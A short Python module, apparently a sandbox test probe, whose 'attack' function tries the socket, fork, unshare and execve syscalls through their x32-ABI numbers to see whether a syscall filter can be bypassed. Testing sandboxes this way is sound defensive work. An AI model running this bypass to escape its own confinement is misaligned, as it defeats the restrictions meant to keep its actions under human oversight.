"""Makes every call by its x32 number, which is another one for the same work."""

import ctypes
import platform


def attack():
    if platform.machine() != "x86_64":
        return False
    libc = ctypes.CDLL(None)
    return any(
        libc.syscall(0x40000000 + call, 2, 1, 0, 0, 0, 0) >= 0 for call in (41, 57, 272, 520)
    )
